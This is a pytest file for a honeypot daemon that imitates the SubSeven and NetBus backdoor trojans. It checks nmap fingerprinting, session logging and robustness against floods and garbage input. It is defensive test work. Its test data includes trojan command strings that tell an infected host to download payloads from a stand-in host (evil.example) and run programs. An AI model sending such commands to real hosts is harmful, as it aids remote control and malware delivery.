# SPDX-License-Identifier: GPL-2.0-or-later
"""moat-decoyd's backdoor decoys through a real stack (issue 11, moat-decoyd):
nmap -sV names the SubSeven and NetBus ports as its probe file names the real
trojans (nmap's netbus-version script, run by -sV, calls a NetBus that does
not answer a password a honeypot); a scripted client of each logs in and
sends commands, which come out as decoy.* events, decoy_sessions rows and
asciicast files; binary garbage, floods, an endless message and half-open
connections leave the daemon up and inside its memory bound."""
import json
import os
import shutil
import socket
import subprocess
import time

import pytest

from moatstack import wait_for

NETBUS_PASSWORD = "n3tbus;pw"                 # a ';' in it: the rest of the message
NETBUS_COMMANDS = ["GetInfo", "GetSetup", "GetApps", "URL;http://evil.example/nb.exe",
                   "UploadFile;C:\\WINDOWS\\svch0st.exe;4096", "Eject;1"]
SUBSEVEN_PASSWORD = "s7-\x1b[31mred"         # an escape sequence in it, kept as bytes
SUBSEVEN_COMMANDS = ["SIN", "URLhttp://evil.example/s7.exe", "RUNnotepad.exe", "XYZ"]


@pytest.fixture(scope="module")
def dd(stack):
    if stack.env.get("DECOYD") != "running":
        pytest.skip("moat-decoyd is not built")
    if shutil.which("nmap") is None:
        pytest.skip("nmap is not installed (ctl/bootstrap)")
    return stack


def port(st, name):
    words = dict(w.split(":", 1) for w in st.env["DECOY_PORTS"].split())
    return int(words[name])


def rss_kb(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def rss_bound_kb(st):
    """64 MB, the issue's bound; ASan's shadow and quarantine take more in the
    sanitizer build (measured there: 70 MB), which gets 256 MB."""
    try:
        with open(os.path.join(st.bin, "CMakeCache.txt")) as f:
            sanitize = "MOAT_SANITIZE:BOOL=ON" in f.read()
    except OSError:
        sanitize = False
    return (256 if sanitize else 64) * 1024


def sessions(st):
    return st.sql("SELECT * FROM decoy_sessions ORDER BY id")


def events_of(st, key, kind):
    rows = st.sql("SELECT * FROM events WHERE kind = ? ORDER BY id", (kind,))
    out = [dict(r, detail=json.loads(r["detail_json"])) for r in rows]
    return [e for e in out if e["detail"].get("session") == key]


def connect(st, name, source=None):
    s = socket.create_connection(("127.0.0.1", port(st, name)), timeout=10,
                                 source_address=(source, 0) if source else None)
    s.settimeout(10)
    return s


def read_until(s, end, limit=65536):
    got = b""
    while not got.endswith(end) and len(got) < limit:
        d = s.recv(4096)
        if not d:
            break
        got += d
    return got


def read_some(s, wait=1.0):
    """What arrives within wait seconds."""
    s.settimeout(wait)
    got = b""
    try:
        while True:
            d = s.recv(4096)
            if not d:
                break
            got += d
    except socket.timeout:
        pass
    s.settimeout(10)
    return got


def drain(s):
    got = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            got += d
    except (ConnectionResetError, socket.timeout):
        pass
    return got


def row_of(st, sock):
    """The decoy_sessions row of the session sock is (or was) the client of:
    its decoy.connect event names the session by our port.  (Rows of earlier
    tests' sessions may be written late: "the next new row" is not ours.)"""
    src_port = sock.getsockname()[1]

    def key():
        for r in st.sql("SELECT detail_json FROM events WHERE kind = 'decoy.connect' "
                        "ORDER BY id DESC LIMIT 200"):
            d = json.loads(r["detail_json"])
            if d.get("src_port") == src_port:
                return d["session"]
        return None
    k = wait_for(key, timeout=15, what="the session's connect event")
    return wait_for(lambda: [r for r in sessions(st)
                             if json.loads(r["summary"] or "{}").get("session") == k] or None,
                    timeout=15, what="the session's row")[0]


def cast_bytes(path, kind):
    with open(path, "rb") as f:
        lines = f.read().splitlines()
    evs = [json.loads(l) for l in lines[1:]]
    return b"".join(e[2].encode("utf-8", "surrogateescape") for e in evs if e[1] == kind)


# ------------------------------------------------------------------ nmap

def nmap_line(st, name):
    p = port(st, name)
    r = subprocess.run(["nmap", "-sV", "-Pn", "-n", "--host-timeout", "90s", "-p", str(p),
                        "127.0.0.1"], capture_output=True, timeout=150)
    out = r.stdout.decode()
    line = [l for l in out.splitlines() if l.startswith("%d/tcp" % p)]
    assert line, out
    assert "honeypot" not in out.lower() and "unknown" not in line[0], out
    return line[0], out


def test_nmap_names_subseven(dd):
    # nmap-service-probes: match backdoor m|^PWD$| p/Subseven backdoor/ i/**BACKDOOR**/
    line, out = nmap_line(dd, "subseven")
    assert " backdoor " in line and "Subseven backdoor" in line, line
    assert "**BACKDOOR**" in line, line


def test_nmap_names_netbus(dd):
    # nmap-service-probes: match netbus m|^NetBus ([\d.]+).*\r$| p/NetBus trojan/ v/$1/
    line, out = nmap_line(dd, "netbus")
    assert " netbus " in line and "NetBus trojan 1.70" in line, line
    assert "NetBuster" not in out, out          # netbus-version got its answer


def test_nmap_netbus_info_reads_our_answers(dd):
    # nmap's own NetBus client (netbus-info.nse: Password, GetInfo, GetSetup,
    # GetACL, GetApps, GetVolume) parses every answer (-sV: its portrule wants
    # port 12345 or the service named netbus).
    p = port(dd, "netbus")
    r = subprocess.run(["nmap", "-sV", "-Pn", "-n", "--script", "netbus-info", "-p", str(p),
                        "127.0.0.1"], capture_output=True, timeout=150)
    out = r.stdout.decode()
    assert "netbus-info:" in out, out
    for want in ("Login ID: Administrator", "TCP-port: %d" % p, "Wave: 128",
                 "Program Manager"):
        assert want in out, out


def test_banners_are_the_bytes_the_probe_file_matches(dd):
    s = connect(dd, "subseven")
    assert read_some(s) == b"PWD"               # m|^PWD$|: no line end
    s.close()
    s = connect(dd, "netbus")
    assert read_some(s) == b"NetBus 1.70 \r"
    s.close()


# ------------------------------------------------------------------ sessions

@pytest.fixture(scope="module")
def netbus_session(dd):
    s = connect(dd, "netbus")
    assert read_until(s, b"\r") == b"NetBus 1.70 \r"
    s.sendall(("Password;0;%s\r" % NETBUS_PASSWORD).encode())
    assert read_until(s, b"\r") == b"Access;1\r"
    replies = {}
    for c in NETBUS_COMMANDS:
        s.sendall(c.encode() + b"\r")
        if c.startswith("Get"):
            replies[c] = read_until(s, b"\r")
    s.sendall(b"CloseServer\r")
    rest = drain(s)
    row = row_of(dd, s)
    s.close()
    return replies, rest, row


@pytest.fixture(scope="module")
def subseven_session(dd):
    s = connect(dd, "subseven")
    assert read_some(s) == b"PWD"
    s.sendall(b"PWD" + SUBSEVEN_PASSWORD.encode())      # no terminator, as the client does
    hello = read_some(s)
    replies = {}
    for c in SUBSEVEN_COMMANDS:
        s.sendall(c.encode())
        replies[c] = read_some(s, 1.0)
    s.sendall(b"CLS")
    drain(s)
    row = row_of(dd, s)
    s.close()
    return hello, replies, row


def test_netbus_answers_as_netbus(netbus_session):
    replies, rest, _ = netbus_session
    info = replies["GetInfo"].decode()
    assert info.startswith("Info;Program Path: ") and "|Login ID: " in info
    assert replies["GetSetup"].startswith(b"Setup;") and replies["GetSetup"].count(b";") == 6
    assert replies["GetApps"].startswith(b"AppNames;") and replies["GetApps"].endswith(b"|\r")
    assert rest == b""                          # silent actions, then closed


def test_netbus_session_recorded(dd, netbus_session):
    _, _, row = netbus_session
    assert row["port"] == port(dd, "netbus") and row["src_ip"] == "127.0.0.1"
    summary = json.loads(row["summary"])
    key = summary["session"]
    assert summary["logins"] == 1 and summary["end"] == "server closed"
    assert summary["commands"] == len(NETBUS_COMMANDS) + 1       # CloseServer too
    assert summary["downloads"] == 2
    login = events_of(dd, key, "decoy.login")
    assert [e["detail"]["password"] for e in login] == [NETBUS_PASSWORD]
    cmds = [e["detail"]["command"] for e in events_of(dd, key, "decoy.command")]
    assert cmds == NETBUS_COMMANDS + ["CloseServer"]
    dls = [(e["detail"]["tool"], e["detail"]["url"]) for e in events_of(dd, key, "decoy.download")]
    assert dls == [("netbus-url", "http://evil.example/nb.exe"),
                   ("netbus-upload", "C:\\WINDOWS\\svch0st.exe")]
    assert len(events_of(dd, key, "decoy.connect")) == 1
    assert len(events_of(dd, key, "decoy.disconnect")) == 1
    raw = cast_bytes(row["transcript_path"], "i")
    assert ("Password;0;%s\r" % NETBUS_PASSWORD).encode() in raw and b"GetSetup\r" in raw
    out = cast_bytes(row["transcript_path"], "o")
    assert out.startswith(b"NetBus 1.70 \rAccess;1\r")


def test_subseven_answers_and_records(dd, subseven_session):
    hello, replies, row = subseven_session
    assert hello.startswith(b"connected. ") and hello.endswith(b", version: 2.2")
    assert replies["SIN"].startswith(b"Windows 98")
    assert replies["URLhttp://evil.example/s7.exe"] == b"url opened."
    assert replies["XYZ"] == b""                # unknown: no answer
    summary = json.loads(row["summary"])
    key = summary["session"]
    assert summary["logins"] == 1 and summary["end"] == "client closed"
    assert summary["commands"] == len(SUBSEVEN_COMMANDS) + 1
    login = events_of(dd, key, "decoy.login")
    assert [e["detail"]["password"] for e in login] == [SUBSEVEN_PASSWORD]
    cmds = [e["detail"]["command"] for e in events_of(dd, key, "decoy.command")]
    assert cmds == SUBSEVEN_COMMANDS + ["CLS"]
    dls = [e["detail"]["url"] for e in events_of(dd, key, "decoy.download")]
    assert dls == ["http://evil.example/s7.exe"]
    raw = cast_bytes(row["transcript_path"], "i")
    assert raw == b"PWD" + SUBSEVEN_PASSWORD.encode() + b"".join(
        c.encode() for c in SUBSEVEN_COMMANDS) + b"CLS"


# ------------------------------------------------------------------ bad input

def test_bad_input_keeps_it_up_and_bounded(dd):
    pid = dd.pid("moat-decoyd")
    before = len(sessions(dd))
    # Binary garbage at both.
    for name in ("subseven", "netbus"):
        s = connect(dd, name)
        try:
            s.sendall(bytes(range(256)) * 200 + os.urandom(50000))
            s.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        drain(s)
        s.close()
    # A flood of commands whose answers the client never reads: bounded
    # by max_bytes (1M) whatever the answers.
    s = connect(dd, "netbus")
    s.sendall(b"Password;0;x\r")
    try:
        for _ in range(200):
            s.sendall(b"GetInfo\r" * 1024)
    except (BrokenPipeError, ConnectionResetError):
        pass
    s.close()
    # A flood of tiny messages (each would be an event): ended past its bound.
    s = connect(dd, "subseven")
    try:
        s.sendall(b"XYZ\0" * 20000)
    except (BrokenPipeError, ConnectionResetError):
        pass
    drain(s)
    s.close()
    # An endless message: cut at max_line, closed at max_bytes.
    s = connect(dd, "subseven")
    try:
        for _ in range(200):
            s.sendall(b"A" * 8192)
    except (BrokenPipeError, ConnectionResetError):
        pass
    drain(s)
    s.close()
    def ends_of(rows):
        return {r["personality"] + ":" + json.loads(r["summary"])["end"] for r in rows}

    def ours():
        rows = sessions(dd)[before:]
        return rows if len(rows) >= 5 and {"subseven:max_bytes", "subseven:message flood"} <= \
            ends_of(rows) else None
    rows = wait_for(ours, timeout=20, what="five session rows, the two floods' among them")
    flood = [json.loads(r["summary"]) for r in rows
             if json.loads(r["summary"])["end"] == "message flood"][0]
    assert flood["commands"] == 4096, flood
    for r in rows:
        assert os.path.getsize(r["transcript_path"]) > 100
    # Half-open connections (connected, then silent; or never reading).
    held = [connect(dd, n, "127.0.0.17") for n in ("subseven", "netbus") for _ in range(10)]
    time.sleep(0.5)
    assert dd.pid("moat-decoyd") == pid and rss_kb(pid) < rss_bound_kb(dd)
    # Still serving both while they hang on.
    s = connect(dd, "subseven")
    assert read_some(s) == b"PWD"
    s.close()
    s = connect(dd, "netbus")
    assert read_until(s, b"\r") == b"NetBus 1.70 \r"
    s.close()
    for h in held:
        h.close()
    assert dd.pid("moat-decoyd") == pid
